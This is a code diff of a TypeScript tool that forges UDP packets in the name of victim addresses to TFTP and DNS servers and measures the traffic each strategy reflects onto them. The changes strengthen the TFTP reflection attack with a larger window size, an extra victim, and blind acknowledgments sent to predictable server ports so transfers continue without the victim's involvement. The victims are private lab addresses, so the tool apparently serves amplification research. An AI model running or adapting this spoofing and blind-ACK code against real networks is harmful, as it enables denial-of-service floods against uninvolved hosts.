@@ -1,7 +1,7 @@
 /**
  * A forger that sends in the name of victims, and the victims. Each strategy has another victim, so that its bytes can be
- * counted. Arguments: `send` or `receive`, server, then `tftp`, seconds, first and last port for acknowledgments; or
- * `dns`, seconds, name. Prints the bytes of each strategy.
+ * counted. Arguments: `send` or `receive`, server, then `tftp`, seconds, first and last port for acknowledgments, granted
+ * window; or `dns`, seconds, name. Prints the bytes of each strategy.
  */
 import { createSocket, type Socket } from 'node:dgram'
 import { once } from 'node:events'
@@ -11,7 +11,7 @@ import { setTimeout as sleep } from 'node:timers/promises'
 export type Traffic = { readonly sent: number; readonly received: number }
 
 /** In the subnet of the site for TFTP, outside of it for DNS; the addresses of clients 2 and 3. */
-const tftpVictims = ['172.16.7.201', '172.16.7.202', '172.16.7.203', '172.16.7.204']
+const tftpVictims = ['172.16.7.201', '172.16.7.202', '172.16.7.203', '172.16.7.204', '172.16.7.205']
 const dnsVictims = ['10.99.0.1', '10.99.1.1', '10.99.2.1']
 export const victims = [...tftpVictims, ...dnsVictims]
 
@@ -21,7 +21,7 @@ const maxPorts = 10
 /** Ethernet, IPv4, and UDP. */
 const headerOctets = 14 + 20 + 8
 const packetsPerSecond = 5000
-const ackSeconds = 10
+const ackSeconds = 8
 
 type Sender = (victim: number, port: number, payload: Buffer, to: number) => void
 type Strategy = {
@@ -32,10 +32,10 @@ type Strategy = {
 
 const request = (options: string) => Buffer.from(`\0\x01large.efi\0octet\0${options}`, 'latin1')
 const plain = request('')
-const withOptions = request('blksize\x001428\0windowsize\x004\0tsize\x000\0')
+const withOptions = request('blksize\x001428\0windowsize\x0016\0tsize\x000\0')
 const acknowledgment = (block: number) => Buffer.of(0, 4, (block >>> 8) & 255, block & 255)
 
-function tftpStrategies([first = 0, last = 0]: readonly number[]): Strategy[] {
+function tftpStrategies([first = 0, last = 0, windowBlocks = 1]: readonly number[]): Strategy[] {
   const targets = Array.from({ length: last - first + 1 }, (_, index) => first + index)
   // If all ports must be tried, more transfers only make a round longer.
   const transfers = targets.length > 1000 ? 1 : maxPorts
@@ -43,16 +43,16 @@ function tftpStrategies([first = 0, last = 0]: readonly number[]): Strategy[] {
     for (let port = 0; port < count; port++) send(victim, port, packet, 69)
   }
   const blind =
-    (stepBlocks: number, delaySeconds: number): Strategy['run'] =>
+    (order: number, stepBlocks: number, targetsOf: (port: number) => readonly number[]): Strategy['run'] =>
     async (send, victim) => {
-      await sleep(delaySeconds * 1000)
+      await sleep(order * (ackSeconds + 1) * 1000)
       start(send, victim, withOptions, transfers)
       await sleep(500)
       const began = performance.now()
       let sent = 0
       for (let block = 0; ; block += stepBlocks) {
         for (let port = 0; port < transfers; port++) {
-          for (const target of targets) {
+          for (const target of targetsOf(port)) {
             const dueMs = (sent++ * 1000) / packetsPerSecond
             const elapsed = performance.now() - began
             if (elapsed > ackSeconds * 1000) return
@@ -62,7 +62,7 @@ function tftpStrategies([first = 0, last = 0]: readonly number[]): Strategy[] {
         }
       }
     }
-  const [one, two, three, four] = tftpVictims as [string, string, string, string]
+  const [one, two, three, four, five] = tftpVictims as [string, string, string, string, string]
   return [
     {
       ...{ name: 'no options, no ACK', victim: one },
@@ -72,8 +72,12 @@ function tftpStrategies([first = 0, last = 0]: readonly number[]): Strategy[] {
       ...{ name: 'options, no ACK', victim: two },
       run: (send, victim) => start(send, victim, withOptions),
     },
-    { name: 'blind ACK of each block', victim: three, run: blind(1, 0) },
-    { name: 'blind ACK of each window', victim: four, run: blind(4, ackSeconds + 1) },
+    { name: 'blind ACK of each block', victim: three, run: blind(0, 1, () => targets) },
+    { name: 'blind ACK of each window', victim: four, run: blind(1, windowBlocks, () => targets) },
+    // A server that takes the first free port of a range is predictable.
+    ...(targets.length > 1 && targets.length <= 1000
+      ? [{ name: 'blind ACK to the next port', victim: five, run: blind(2, 1, (port) => [first + port]) }]
+      : []),
   ]
 }
 
